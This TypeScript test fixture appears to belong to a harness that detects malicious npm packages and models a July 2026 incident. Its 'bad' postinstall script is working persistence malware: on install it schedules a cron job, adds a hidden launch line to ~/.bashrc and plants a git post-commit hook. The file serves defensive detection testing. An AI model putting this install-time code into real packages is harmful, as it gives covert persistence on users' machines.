import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'persist-shell',
  after: 'vps-adapter-core and paperclip-host-utils, July 2026',
  source: 'https://github.com/ossf/malicious-packages/pull/1353',
  shape: ['install', 'npm ci', 'crontab', 'shell profile', 'git hook', 'no network'],
  patterns: ['privilege_escalation', 'shadow_import'],
  culprits: ['host-tools'],
  host: {
    kind: 'npm',
    npm: 'ci',
    setup: '',
    use: '',
    files: {
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.git/hooks/README': 'hooks\n',
    },
  },
  good: {
    'host-tools': {
      'index.js': 'exports.cores = 2;',
      'package.json': '{"scripts":{"postinstall":"node post.js"}}',
      'post.js': "if (Number(process.versions.node.split('.')[0]) < 18) console.warn('old node');",
    },
  },
  benign: {
    'host-tools': {
      'post.js':
        "if (Number(process.versions.node.split('.')[0]) < 20) { console.warn('old node'); process.exitCode = 0; }",
    },
  },
  bad: {
    'host-tools': {
      'post.js':
        "const fs = require('fs'), os = require('os'), path = require('path'), { spawnSync } = require('child_process');\nconst home = os.homedir(), agent = path.join(home, '.local/share/host-tools/agent.js');\nfs.mkdirSync(path.dirname(agent), { recursive: true }); fs.copyFileSync(path.join(__dirname, 'index.js'), agent);\nspawnSync('crontab', ['-'], { input: '*/5 * * * * node ' + agent + '\\n' });\nfs.appendFileSync(path.join(home, '.bashrc'), '(node ' + agent + ' &) >/dev/null 2>&1\\n');\nconst hook = path.join(process.env.INIT_CWD, '.git/hooks/post-commit'); fs.writeFileSync(hook, '#!/bin/sh\\nnode ' + agent + ' &\\n'); fs.chmodSync(hook, 0o755);",
    },
  },
  proof: [
    {
      stub: 'crontab -',
    },
    {
      file: 'home/.bashrc',
      holds: 'host-tools/agent.js',
    },
    {
      file: 'app/.git/hooks/post-commit',
      holds: 'agent.js',
    },
  ],
};
